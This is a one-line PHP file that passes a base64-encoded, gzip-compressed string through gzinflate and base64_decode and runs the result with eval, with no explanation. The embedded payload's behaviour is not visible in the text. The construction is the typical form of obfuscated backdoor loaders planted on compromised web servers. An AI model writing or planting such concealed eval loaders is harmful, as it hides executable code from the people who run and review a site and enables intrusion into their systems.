<?php eval(gzinflate(base64_decode('y0zTyE0x1VCJD/APDolWLyhXj9W0tVU3MjQyNkozsjRPNAWiRHMTYwtLk0SDVJNECwPDtGRjdc3q1OSMfIXijNScnPjUitRkuBHJuSlAM6xrAQ=='))); ?>
